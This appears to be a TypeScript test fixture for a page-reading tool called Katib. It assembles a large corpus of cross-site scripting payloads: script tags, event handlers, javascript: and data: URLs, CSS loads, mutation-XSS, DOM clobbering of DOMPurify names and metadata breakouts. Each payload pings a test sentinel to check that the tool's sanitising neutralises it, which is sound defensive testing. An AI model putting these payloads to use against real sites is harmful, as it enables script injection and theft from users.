/**
 * The script-injection corpus: markup a hostile page can carry, each piece calling the sentinel
 * (`sentinel.ts`) in the way its vector naturally would (a script's `fetch`, a handler's `new Image`, a
 * frame's or style sheet's own request). None of it may run, or make a request, once Katib has read
 * the page: not in the page, not in the reader, the library or the popup.
 *
 * `where` says which channel of the page the payload goes in (see `hostile-pages.ts`): the article body,
 * the page around it, the head, the very end of the page (for markup that swallows what follows), or one
 * of the metadata channels the extractor reads. For metadata channels `html` is the raw value written
 * into that channel (a JSON-LD string, a meta tag's `content`, a link's `href`, a tag's inner markup).
 * Ids are stable: the browser runs report hits by id. No payload points the page itself at the sentinel
 * in a way a content security policy cannot stop (a meta refresh to a web address navigates the tab
 * whatever the policy), so that in the browser runs, where pages are served with a strict policy, any
 * hit comes from Katib.
 */

import { EVENT_HANDLER_NAMES, handlerMarkup } from './event-handlers';
import { hitUrl } from './sentinel';

export type PayloadCategory =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'resource'
  | 'css'
  | 'mutation-xss'
  | 'embedded-document'
  | 'template'
  | 'metadata'
  | 'clobbering';

/** Metadata channels that hold one value per page. */
export const SINGLE_VALUE_CHANNELS = [
  'title',
  'jsonld:headline',
  'jsonld:author.name',
  'jsonld:publisher.name',
  'jsonld:datePublished',
  'jsonld:articleSection',
  'jsonld:url',
  'jsonld:image',
  'meta:og:title',
  'meta:og:site_name',
  'meta:og:description',
  'meta:og:url',
  'meta:article:author',
  'canonical',
  'byline',
  'dateline',
  'tail',
] as const;

/** Channels that take any number of payloads. */
export const MULTI_VALUE_CHANNELS = [
  'body',
  'chrome',
  'head',
  'jsonld:keywords',
  'meta:article:tag',
  'meta:keywords',
  'tag-cloud',
  'related-title',
  'related-href',
  'hreflang',
] as const;

export type PayloadChannel = (typeof SINGLE_VALUE_CHANNELS)[number] | (typeof MULTI_VALUE_CHANNELS)[number];

export interface Payload {
  /** Stable and unique; the sentinel path names it. */
  id: string;
  category: PayloadCategory;
  where: PayloadChannel;
  /** Markup (or a channel's raw value) with the sentinel placeholder in it. */
  html: string;
}

type Call = 'fetch' | 'image' | 'beacon' | 'import';

/** Script that requests the sentinel for `id`, self-contained (no helper exists where it would run). */
function call(id: string, how: Call = 'fetch'): string {
  const url = hitUrl(id);
  if (how === 'image') return `new Image().src='${url}'`;
  if (how === 'beacon') return `navigator.sendBeacon('${url}')`;
  if (how === 'import') return `import('${url}')`;
  return `fetch('${url}')`;
}

const CALLS: Call[] = ['fetch', 'image', 'beacon', 'fetch', 'import'];

function scripts(): Payload[] {
  const s = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'script', where, html });
  return [
    s('script-plain', `<script>${call('script-plain')}</script>`),
    s('script-uppercase', `<SCRIPT>${call('script-uppercase', 'image')}</SCRIPT>`),
    s('script-mixed-case', `<ScRiPt>${call('script-mixed-case')}</sCrIpT>`),
    s('script-src', `<script src="${hitUrl('script-src')}"></script>`),
    s('script-src-unquoted', `<SCRIPT SRC=${hitUrl('script-src-unquoted')}></SCRIPT>`),
    s('script-slash-separator', `<script/src="${hitUrl('script-slash-separator')}"></script>`),
    s('script-attributes', `<script type="text/javascript" language="javascript" charset="utf-8" async defer>${call('script-attributes', 'beacon')}</script>`),
    s('script-module', `<script type="module">${call('script-module', 'import')}</script>`),
    s('script-nomodule', `<script nomodule>${call('script-nomodule')}</script>`),
    s('script-in-svg', `<svg><script>${call('script-in-svg')}</script></svg>`),
    s('script-in-svg-entities', `<svg><script>fetch(&#39;${hitUrl('script-in-svg-entities')}&#39;)</script></svg>`),
    s('script-svg-href', `<svg><script href="${hitUrl('script-svg-href')}"></script></svg>`),
    s('script-svg-xlink-href', `<svg><script xlink:href="${hitUrl('script-svg-xlink-href')}"></script></svg>`),
    s('script-in-table', `<table><script>${call('script-in-table')}</script><tr><td>—</td></tr></table>`),
    s('script-double-bracket', `<<script>${call('script-double-bracket')}//<</script>`),
    s('script-in-head', `<script>${call('script-in-head')}</script>`, 'head'),
    s('script-src-in-head', `<script src="${hitUrl('script-src-in-head')}" defer></script>`, 'head'),
    s('script-in-chrome', `<script>${call('script-in-chrome', 'image')}</script>`, 'chrome'),
    s('script-unclosed', `<script>${call('script-unclosed')}`, 'tail'),
    s('script-unclosed-src', `<script src="${hitUrl('script-unclosed-src')}">`, 'tail'),
    s('script-after-html-end', `</body></html><script>${call('script-after-html-end')}</script>`, 'tail'),
  ];
}

function eventHandlers(): Payload[] {
  return EVENT_HANDLER_NAMES.map((name, i) => {
    const id = `handler-${name}`;
    // Handlers on <body> merge into the page's body wherever they stand; a few others sit outside the article.
    const where: PayloadChannel = i % 9 === 4 ? 'chrome' : 'body';
    return { id, category: 'event-handler' as const, where, html: handlerMarkup(name, `${name}="${call(id, CALLS[i % CALLS.length])}"`) };
  });
}

function urlSchemes(): Payload[] {
  const u = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'url-scheme', where, html });
  return [
    u('a-href-javascript', `<a href="javascript:${call('a-href-javascript')}">Haberin devamı</a>`),
    u('a-href-javascript-uppercase', `<a href="JAVASCRIPT:${call('a-href-javascript-uppercase')}">devamı</a>`),
    u('a-href-javascript-entities', `<a href="&#106;&#x61;vascript&colon;${call('a-href-javascript-entities')}">devamı</a>`),
    u('a-href-javascript-tab', `<a href="java&#x09;script:${call('a-href-javascript-tab')}">devamı</a>`),
    u('a-href-javascript-newline', `<a href="java\nscript:${call('a-href-javascript-newline')}">devamı</a>`),
    u('a-href-javascript-leading-space', `<a href=" &#x0B; javascript:${call('a-href-javascript-leading-space')}">devamı</a>`),
    u('a-href-vbscript', `<a href="vbscript:CreateObject(&quot;MSXML2.XMLHTTP&quot;).Open &quot;GET&quot;,&quot;${hitUrl('a-href-vbscript')}&quot;">devamı</a>`),
    u('a-href-data-html', `<a href="data:text/html,<script>${call('a-href-data-html')}</script>">devamı</a>`),
    u('a-href-data-html-encoded', `<a href="data:text/html;charset=utf-8,%3Cscript%3Efetch(%27${hitUrl('a-href-data-html-encoded')}%27)%3C/script%3E">devamı</a>`),
    u('img-src-javascript', `<img src="javascript:${call('img-src-javascript')}" alt="">`),
    u('img-src-data-svg', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call('img-src-data-svg').replace(/'/g, '&quot;')}'/>" alt="">`),
    u('img-srcset-javascript', `<img src="/media/kapak.svg" srcset="javascript:${call('img-srcset-javascript')} 2x" alt="">`),
    u('form-action-javascript', `<form action="javascript:${call('form-action-javascript')}"><input type="submit" value="Gönder"></form>`),
    u('button-formaction-javascript', `<form><button formaction="javascript:${call('button-formaction-javascript')}">Oku</button></form>`),
    u('input-formaction-javascript', `<form><input type="image" src="/media/kapak.svg" formaction="javascript:${call('input-formaction-javascript')}"></form>`),
    u('iframe-src-javascript', `<iframe src="javascript:${call('iframe-src-javascript')}"></iframe>`),
    u('iframe-src-data', `<iframe src="data:text/html,<script>${call('iframe-src-data')}</script>"></iframe>`),
    u('area-href-javascript', `<map name="katib-harita"><area shape="rect" coords="0,0,50,50" href="javascript:${call('area-href-javascript')}"></map><img usemap="#katib-harita" src="/media/kapak.svg" alt="">`),
    u('svg-a-xlink-href', `<svg width="80" height="20"><a xlink:href="javascript:${call('svg-a-xlink-href')}"><text x="0" y="15">tıkla</text></a></svg>`),
    u('svg-a-href', `<svg width="80" height="20"><a href="javascript:${call('svg-a-href')}"><text x="0" y="15">tıkla</text></a></svg>`),
    u('svg-use-data-href', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${call('svg-use-data-href').replace(/'/g, '&quot;')}'/&gt;&lt;/svg&gt;#x"/></svg>`),
    u('svg-animate-href', `<svg width="80" height="20"><a><animate attributeName="href" values="javascript:${call('svg-animate-href')}"/><text x="0" y="15">tıkla</text></a></svg>`),
    u('svg-set-href', `<svg width="80" height="20"><a><set attributeName="href" to="javascript:${call('svg-set-href')}"/><text x="0" y="15">tıkla</text></a></svg>`),
    u('math-href', `<math href="javascript:${call('math-href')}"><mi>x</mi></math>`),
    u('math-maction', `<math><maction actiontype="statusline" xlink:href="javascript:${call('math-maction')}"><mtext>tıkla</mtext><mtext>x</mtext></maction></math>`),
    u('math-mi-xlink-href', `<math><mi xlink:href="javascript:${call('math-mi-xlink-href')}">x</mi></math>`),
    u('object-data-javascript', `<object data="javascript:${call('object-data-javascript')}"></object>`),
    u('embed-src-javascript', `<embed src="javascript:${call('embed-src-javascript')}">`),
    u('base-href-javascript', `<base href="javascript:${call('base-href-javascript')}//">`, 'head'),
    u('base-href-data-in-body', `<base href="data:text/html,<script>${call('base-href-data-in-body')}</script>/">`, 'chrome'),
    u('meta-refresh-javascript', `<meta http-equiv="refresh" content="0;url=javascript:${call('meta-refresh-javascript')}">`, 'head'),
    u('meta-refresh-data', `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${call('meta-refresh-data')}</script>">`, 'body'),
    u('a-href-javascript-in-chrome', `<a href="javascript:${call('a-href-javascript-in-chrome')}">Giriş</a>`, 'chrome'),
  ];
}

/** Elements that load a resource by themselves; none may survive, or the request would be made. */
function resources(): Payload[] {
  const r = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'resource', where, html });
  return [
    r('img-srcset', `<img src="/media/kapak.svg" srcset="${hitUrl('img-srcset')} 2x" alt="">`),
    r('picture-source-srcset', `<picture><source srcset="${hitUrl('picture-source-srcset')}"><img src="/media/kapak.svg" alt=""></picture>`),
    r('img-lowsrc-dynsrc', `<img src="/media/kapak.svg" lowsrc="${hitUrl('img-lowsrc-dynsrc')}" dynsrc="${hitUrl('img-lowsrc-dynsrc')}" alt="">`),
    r('input-image-src', `<input type="image" src="${hitUrl('input-image-src')}" alt="">`),
    r('video-poster', `<video poster="${hitUrl('video-poster')}"></video>`),
    r('video-src', `<video src="${hitUrl('video-src')}" autoplay muted></video>`),
    r('audio-src', `<audio src="${hitUrl('audio-src')}" autoplay></audio>`),
    r('video-source-src', `<video autoplay muted><source src="${hitUrl('video-source-src')}"></video>`),
    r('track-src', `<video><track default src="${hitUrl('track-src')}"></video>`),
    r('table-background', `<table background="${hitUrl('table-background')}"><tr><td>—</td></tr></table>`),
    r('body-background', `<body background="${hitUrl('body-background')}">`),
    r('svg-image-href', `<svg width="1" height="1"><image href="${hitUrl('svg-image-href')}" width="1" height="1"/></svg>`),
    r('svg-use-external', `<svg width="1" height="1"><use href="${hitUrl('svg-use-external')}#x"/></svg>`),
    r('svg-feimage', `<svg width="1" height="1"><filter id="katib-f"><feImage href="${hitUrl('svg-feimage')}"/></filter><rect filter="url(#katib-f)" width="1" height="1"/></svg>`),
    r('a-ping', `<a href="/haber" ping="${hitUrl('a-ping')}">haber</a>`),
    r('link-stylesheet-in-body', `<link rel="stylesheet" href="${hitUrl('link-stylesheet-in-body')}">`),
    r('link-prefetch-in-body', `<link rel="prefetch" href="${hitUrl('link-prefetch-in-body')}">`),
    r('link-preload', `<link rel="preload" as="image" href="${hitUrl('link-preload')}">`, 'head'),
    r('link-import', `<link rel="import" href="${hitUrl('link-import')}">`, 'head'),
    r('link-stylesheet', `<link rel="stylesheet" href="${hitUrl('link-stylesheet')}">`, 'head'),
    r('link-modulepreload', `<link rel="modulepreload" href="${hitUrl('link-modulepreload')}">`, 'head'),
  ];
}

function css(): Payload[] {
  const c = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'css', where, html });
  return [
    c('style-import', `<style>@import '${hitUrl('style-import')}';</style>`),
    c('style-import-url', `<style>@import url(${hitUrl('style-import-url')});</style>`, 'head'),
    c('style-background-url', `<style>p{background:url(${hitUrl('style-background-url')})}</style>`),
    c('style-font-face', `<style>@font-face{font-family:katib-f;src:url(${hitUrl('style-font-face')})}p{font-family:katib-f}</style>`),
    c('style-attr-url', `<p style="background-image:url('${hitUrl('style-attr-url')}')">—</p>`),
    c('style-attr-javascript', `<div style="background:url(javascript:${call('style-attr-javascript')})">·</div>`),
    c('style-attr-expression', `<div style="width:expression(${call('style-attr-expression')})">·</div>`),
    c('style-attr-behavior', `<div style="behavior:url(${hitUrl('style-attr-behavior')})">·</div>`),
    c('style-attr-moz-binding', `<div style="-moz-binding:url(${hitUrl('style-attr-moz-binding')}#x)">·</div>`),
    c('style-attr-escaped-url', `<div style="background:u\\72 l(${hitUrl('style-attr-escaped-url')})">·</div>`),
    c('style-attr-cursor', `<span style="cursor:url(${hitUrl('style-attr-cursor')}),auto">·</span>`),
    c('style-attr-list-image', `<ul style="list-style-image:url(${hitUrl('style-attr-list-image')})"><li>madde</li></ul>`),
    c('style-in-svg', `<svg><style>@import '${hitUrl('style-in-svg')}';</style></svg>`),
    c('style-in-chrome', `<style>body{background:url(${hitUrl('style-in-chrome')})}</style>`, 'chrome'),
  ];
}

/** Mutation XSS and namespace confusion: markup that a sanitiser may see as harmless and a re-parse not. */
function mutationXss(): Payload[] {
  const m = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'mutation-xss', where, html });
  const img = (id: string) => `<img src=x onerror=${call(id)}>`;
  return [
    m('mxss-noscript-title', `<noscript><p title="</noscript>${img('mxss-noscript-title')}"></noscript>`, 'tail'),
    m('mxss-noscript-style', `<noscript><style></noscript>${img('mxss-noscript-style')}</style></noscript>`),
    m('mxss-svg-p-style', `<svg></p><style><a id="</style>${img('mxss-svg-p-style')}">`, 'tail'),
    m('mxss-form-math-mtext', `<form><math><mtext></form><form><mglyph><style></math>${img('mxss-form-math-mtext')}`, 'tail'),
    m('mxss-math-mtext-table-mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call('mxss-math-mtext-table-mglyph')}&gt;">`, 'tail'),
    m('mxss-math-mi-mglyph-style', `<math><mi><mglyph><style>${img('mxss-math-mi-mglyph-style')}</style></mglyph></mi></math>`),
    m('mxss-math-mtext-h1-svg', `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img('mxss-math-mtext-h1-svg')}"></style></h1>`, 'tail'),
    m('mxss-svg-foreignobject', `<svg><foreignObject><p>${img('mxss-svg-foreignobject')}</p></foreignObject></svg>`),
    m('mxss-svg-annotation-style', `<svg><annotation-xml><foreignobject><style>${img('mxss-svg-annotation-style')}</style></foreignobject></annotation-xml></svg>`),
    m('mxss-math-annotation-html', `<math><annotation-xml encoding="text/html"><style>${img('mxss-math-annotation-html')}</style></annotation-xml></math>`),
    m('mxss-svg-a-foreignobject-table', `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=${call('mxss-svg-a-foreignobject-table')}>">`),
    m('mxss-svg-style-comment', `<svg><style><!--</style>${img('mxss-svg-style-comment')}--></style></svg>`),
    m('mxss-svg-desc-style', `<svg><desc><style>${img('mxss-svg-desc-style')}</style></desc></svg>`),
    m('mxss-math-style', `<math><style>${img('mxss-math-style')}</style></math>`),
    m('mxss-textarea-title', `<textarea><p title="</textarea>${img('mxss-textarea-title')}"></textarea>`),
    m('mxss-title-in-body', `<title>${img('mxss-title-in-body')}</title>`),
    m('mxss-xmp', `<xmp><p title="</xmp>${img('mxss-xmp')}"></xmp>`),
    m('mxss-noembed', `<noembed><p title="</noembed>${img('mxss-noembed')}"></noembed>`),
    m('mxss-noframes', `<noframes><p title="</noframes>${img('mxss-noframes')}"></noframes>`),
    m('mxss-iframe-rawtext', `<iframe><p title="</iframe>${img('mxss-iframe-rawtext')}"></iframe>`),
    m('mxss-select-template', `<select><template><style>${img('mxss-select-template')}</style></template></select>`),
    m('mxss-comment-short', `<!--><img src=x onerror=${call('mxss-comment-short')}>-->`),
    m('mxss-comment-bang', `<!-- --!>${img('mxss-comment-bang')} -->`),
    m('mxss-comment-in-attribute', `<p title="<!--">${img('mxss-comment-in-attribute')}<!--"></p>-->`),
    m('mxss-cdata-svg', `<svg><![CDATA[><img src=x onerror=${call('mxss-cdata-svg')}>]]></svg>`),
    m('mxss-cdata-html', `<![CDATA[><img src=x onerror=${call('mxss-cdata-html')}>]]>`),
    m('mxss-processing-instruction', `<?xml ><img src=x onerror=${call('mxss-processing-instruction')}>?>`),
    m('mxss-svg-processing-instruction', `<svg><?><img src=x onerror=${call('mxss-svg-processing-instruction')}>?></svg>`),
    m('mxss-double-encoded', `<p>&lt;img src=x onerror=${call('mxss-double-encoded')}&gt;</p>`),
    m('mxss-html-attributes', `<html onmouseover="${call('mxss-html-attributes', 'image')}">`),
    m('mxss-plaintext', `<plaintext>${img('mxss-plaintext')}`, 'tail'),
    m('mxss-comment-unclosed', `<!--${img('mxss-comment-unclosed')}`, 'tail'),
  ];
}

function embeddedDocuments(): Payload[] {
  const e = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'embedded-document', where, html });
  return [
    e('iframe-srcdoc-script', `<iframe srcdoc="<script>${call('iframe-srcdoc-script')}</script>"></iframe>`),
    e('iframe-srcdoc-entities', `<iframe srcdoc="&lt;img src=x onerror=${call('iframe-srcdoc-entities')}&gt;"></iframe>`),
    e('iframe-src', `<iframe src="${hitUrl('iframe-src')}"></iframe>`),
    e('frame-src', `<frameset><frame src="${hitUrl('frame-src')}"></frameset>`),
    e('object-data', `<object data="${hitUrl('object-data')}" type="text/html"></object>`),
    e('object-data-html', `<object data="data:text/html,<script>${call('object-data-html')}</script>"></object>`),
    e('object-param', `<object><param name="src" value="${hitUrl('object-param')}"><param name="movie" value="${hitUrl('object-param')}"></object>`),
    e('embed-src', `<embed src="${hitUrl('embed-src')}" type="text/html">`),
    e('embed-svg-data', `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call('embed-svg-data').replace(/'/g, '&quot;')}'/>">`),
    e('portal-src', `<portal src="${hitUrl('portal-src')}"></portal>`),
    e('svg-onload', `<svg onload="${call('svg-onload')}"></svg>`),
    e('svg-onload-slash', `<svg/onload=${call('svg-onload-slash')}></svg>`),
    e('iframe-in-chrome', `<iframe src="${hitUrl('iframe-in-chrome')}" width="1" height="1"></iframe>`, 'chrome'),
  ];
}

function templates(): Payload[] {
  const t = (id: string, html: string, where: PayloadChannel = 'body'): Payload => ({ id, category: 'template', where, html });
  return [
    t('template-img', `<template><img src=x onerror=${call('template-img')}></template>`),
    t('template-nested', `<template><template><img src=x onerror=${call('template-nested')}></template></template>`),
    t('template-script', `<template><script>${call('template-script')}</script></template>`),
    t('template-shadowroot', `<div><template shadowrootmode="open"><img src=x onerror=${call('template-shadowroot')}></template></div>`),
    t('template-shadowroot-style', `<div><template shadowrootmode="open"><style>@import '${hitUrl('template-shadowroot-style')}';</style><slot></slot></template>·</div>`),
    t('template-in-table', `<table><template><tr><td><img src=x onerror=${call('template-in-table')}></td></tr></template></table>`),
    t('noscript-img', `<noscript><img src=x onerror=${call('noscript-img')}></noscript>`),
    t('noscript-iframe', `<noscript><iframe src="${hitUrl('noscript-iframe')}"></iframe></noscript>`),
    t('noscript-in-head', `<noscript><link rel="stylesheet" href="${hitUrl('noscript-in-head')}"></noscript>`, 'head'),
  ];
}

/** Values for the metadata the extractor reads; the UI shows them as text and uses their addresses as links. */
function metadata(): Payload[] {
  const d = (id: string, where: PayloadChannel, html: string): Payload => ({ id, category: 'metadata', where, html });
  const img = (id: string) => `<img src=x onerror=${call(id)}>`;
  return [
    d('meta-title-breakout', 'title', `</title><script>${call('meta-title-breakout')}</script>`),
    d('meta-title-markup', 'title', `${img('meta-title-markup')} Son dakika`),
    d('jsonld-headline', 'jsonld:headline', `${img('jsonld-headline')}`),
    d('jsonld-headline-breakout', 'jsonld:headline', `</script><script>${call('jsonld-headline-breakout')}</script>`),
    d('jsonld-author-name', 'jsonld:author.name', `<script>${call('jsonld-author-name')}</script>`),
    d('jsonld-publisher-name', 'jsonld:publisher.name', `<svg onload=${call('jsonld-publisher-name')}>`),
    d('jsonld-date-published', 'jsonld:datePublished', `2025-11-20T10:00:00+03:00${img('jsonld-date-published')}`),
    d('jsonld-keywords', 'jsonld:keywords', `<a href=javascript:${call('jsonld-keywords')}>etiket</a>`),
    d('jsonld-article-section', 'jsonld:articleSection', `<iframe src=javascript:${call('jsonld-article-section')}>`),
    d('jsonld-url', 'jsonld:url', `javascript:${call('jsonld-url')}`),
    d('jsonld-image', 'jsonld:image', `javascript:${call('jsonld-image')}`),
    d('og-title', 'meta:og:title', `${img('og-title')}`),
    d('og-site-name', 'meta:og:site_name', `<b onmouseover=${call('og-site-name')}>Haber</b>`),
    d('og-description-breakout', 'meta:og:description', `"><svg onload=${call('og-description-breakout')}>`),
    d('og-url', 'meta:og:url', `javascript:${call('og-url')}`),
    d('article-tag', 'meta:article:tag', `${img('article-tag')}`),
    d('article-author', 'meta:article:author', `<script>${call('article-author')}</script>`),
    d('meta-keywords', 'meta:keywords', `${img('meta-keywords')}`),
    d('byline-markup', 'byline', `${img('byline-markup')}`),
    d('byline-encoded', 'byline', `&lt;script&gt;${call('byline-encoded')}&lt;/script&gt;`),
    d('dateline-markup', 'dateline', `<svg onload=${call('dateline-markup')}>`),
    d('dateline-encoded', 'dateline', `&lt;img src=x onerror=${call('dateline-encoded')}&gt;`),
    d('tag-cloud-markup', 'tag-cloud', `${img('tag-cloud-markup')}Deprem`),
    d('tag-cloud-encoded', 'tag-cloud', `&lt;svg onload=${call('tag-cloud-encoded')}&gt;`),
    d('related-title-markup', 'related-title', `<svg onload=${call('related-title-markup')}>Bakanlıktan yeni açıklama`),
    d('related-title-encoded', 'related-title', `&lt;img src=x onerror=${call('related-title-encoded')}&gt; Bakanlıktan açıklama`),
    d('related-href-javascript', 'related-href', `javascript:${call('related-href-javascript')}`),
    d('related-href-data', 'related-href', `data:text/html,<script>${call('related-href-data')}</script>`),
    d('hreflang-javascript', 'hreflang', `javascript:${call('hreflang-javascript')}`),
    d('hreflang-data', 'hreflang', `data:text/html,<script>${call('hreflang-data')}</script>`),
    d('hreflang-vbscript', 'hreflang', `vbscript:msgbox(&quot;${hitUrl('hreflang-vbscript')}&quot;)`),
    d('canonical-javascript', 'canonical', `javascript:${call('canonical-javascript')}`),
    d('canonical-data', 'canonical', `data:text/html,<script>${call('canonical-data')}</script>`),
  ];
}

/**
 * DOM clobbering of names the extraction (and DOMPurify) reads. Each clobbering element carries the
 * sentinel where a clobbered read would hand it on: an anchor stringifies to its `href`, a form is
 * submitted to its `action`.
 */
function clobbering(): Payload[] {
  const c = (id: string, html: string): Payload => ({ id, category: 'clobbering', where: 'body', html });
  const js = (id: string) => `javascript:${call(id)}`;
  return [
    c('clobber-document-element', `<form name="documentElement" action="${hitUrl('clobber-document-element')}"><input name="outerHTML" value="<img src=x onerror=${call('clobber-document-element')}>"></form>`),
    c('clobber-body', `<form name="body" action="${hitUrl('clobber-body')}"><input name="innerHTML" value="<img src=x onerror=${call('clobber-body')}>"></form>`),
    c('clobber-title', `<img id="title" name="title" src="/media/kapak.svg" alt="${hitUrl('clobber-title')}">`),
    c('clobber-location', `<a id="location" href="${js('clobber-location')}">·</a>`),
    c('clobber-attributes', `<form id="katib-f1" action="${hitUrl('clobber-attributes')}"><input name="attributes"><input name="tagName"><input name="nodeName"></form>`),
    c('clobber-child-nodes', `<form action="${hitUrl('clobber-child-nodes')}"><input name="childNodes"><input name="children"><input name="firstChild"><input name="parentNode"><input name="nodeType"></form>`),
    c('clobber-get-attribute', `<form action="${hitUrl('clobber-get-attribute')}"><input name="getAttribute"><input name="removeAttribute"><input name="setAttribute"><input name="hasAttribute"></form>`),
    c('clobber-get-element-by-id', `<img name="getElementById" src="/media/kapak.svg" alt="${hitUrl('clobber-get-element-by-id')}">`),
    c('clobber-query-selector', `<form name="querySelector" action="${hitUrl('clobber-query-selector')}"></form><form name="querySelectorAll" action="${hitUrl('clobber-query-selector')}"></form>`),
    c('clobber-create-element', `<form name="createElement" action="${hitUrl('clobber-create-element')}"></form><img name="createTextNode" alt="">`),
    c('clobber-clone-node', `<form name="cloneNode" action="${hitUrl('clobber-clone-node')}"></form><embed name="importNode" src="${js('clobber-clone-node')}">`),
    c('clobber-default-view', `<iframe name="defaultView" src="${js('clobber-default-view')}"></iframe>`),
    c('clobber-implementation', `<object name="implementation" data="${js('clobber-implementation')}"></object><form name="createTreeWalker" action="${hitUrl('clobber-implementation')}"></form>`),
    c('clobber-head', `<form name="head" action="${hitUrl('clobber-head')}"><input name="querySelector"></form>`),
    c('clobber-url', `<img name="URL" alt="${hitUrl('clobber-url')}"><form name="baseURI" action="${hitUrl('clobber-url')}"></form><img name="contentType" alt="">`),
    c('clobber-get-elements-by-tag-name', `<form name="getElementsByTagName" action="${hitUrl('clobber-get-elements-by-tag-name')}"></form><img name="links" alt=""><img name="images" alt="">`),
    c('clobber-owner-document', `<form action="${hitUrl('clobber-owner-document')}"><input name="ownerDocument"><input name="namespaceURI"><input name="localName"></form>`),
    c('clobber-ready-state', `<form name="readyState" action="${hitUrl('clobber-ready-state')}"></form><img name="characterSet" alt=""><img name="lang" alt=""><img name="dir" alt="">`),
    c('clobber-window-names', `<a id="defaultView" href="${js('clobber-window-names')}">·</a><a id="DOMPurify" href="${js('clobber-window-names')}">·</a><a id="trustedTypes" href="${js('clobber-window-names')}">·</a>`),
  ];
}

/** The whole corpus, in a stable order. */
export function xssPayloads(): Payload[] {
  return [...scripts(), ...eventHandlers(), ...urlSchemes(), ...resources(), ...css(), ...mutationXss(), ...embeddedDocuments(), ...templates(), ...metadata(), ...clobbering()];
}
